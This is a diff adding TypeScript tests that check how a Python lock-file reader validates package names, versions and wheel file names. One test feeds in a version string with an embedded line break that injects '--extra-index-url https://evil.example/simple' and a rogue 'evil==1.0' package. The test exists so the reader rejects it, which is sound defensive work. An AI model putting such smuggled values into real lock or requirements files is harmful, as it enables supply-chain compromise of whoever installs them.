@@ -48,3 +48,47 @@ describe('lock file names', () => {
     expect(read).toThrow(reason);
   });
 });
+
+// Review 15c F5: a lock's package name and version are written into the --lock/--report/--pylock
+// outputs and name what is installed — they must be a project name and a PEP 440 version, and a
+// chosen wheel must be a file of that project and version.
+describe('lock package identities', () => {
+  const lockOf = (name: string, version: string, wheel: string) =>
+    [
+      'lock-version = "1.0"\ncreated-by = "test"\n',
+      `[[packages]]\nname = ${JSON.stringify(name)}\nversion = ${JSON.stringify(version)}\n`,
+      `[[packages.wheels]]\nurl = "https://files.example/${wheel}"\nhashes = { sha256 = "${sha}" }\n`,
+    ].join('\n');
+
+  it('refuses a version that is not PEP 440 (a line break would become lines of --lock)', () => {
+    const version = '2.32.3 \\\n--extra-index-url https://evil.example/simple\nevil==1.0';
+    const read = () =>
+      readLockInput('pylock.toml', lockOf('requests', version, 'requests-2.32.3-py3-none-any.whl'), options);
+    expect(read).toThrow(LockFileError);
+    expect(read).toThrow('is not a valid (PEP 440) version');
+  });
+
+  it('refuses a name that is not a project name', () => {
+    const read = () =>
+      readLockInput('pylock.toml', lockOf('requests\nevil', '1.0', 'requests-1.0-py3-none-any.whl'), options);
+    expect(read).toThrow('is not a valid project name');
+  });
+
+  it.each([
+    ['evil-9.9-py3-none-any.whl', 'is a file of evil 9.9'],
+    ['requests-2.32.4-py3-none-any.whl', 'is a file of requests 2.32.4'],
+  ])('refuses the wheel %s for requests 2.32.3', (wheel, reason) => {
+    expect(() => readLockInput('pylock.toml', lockOf('requests', '2.32.3', wheel), options)).toThrow(reason);
+  });
+
+  it('takes a wheel whose version is the same PEP 440 version written differently', () => {
+    const got = readLockInput(
+      'pylock.toml',
+      lockOf('Typing_Extensions', '4.12.2', 'typing_extensions-4.12.02-py3-none-any.whl'),
+      options,
+    );
+    expect(got.resolution.packages.map((p) => [p.name, p.version])).toEqual([
+      ['typing-extensions', '4.12.2'],
+    ]);
+  });
+});
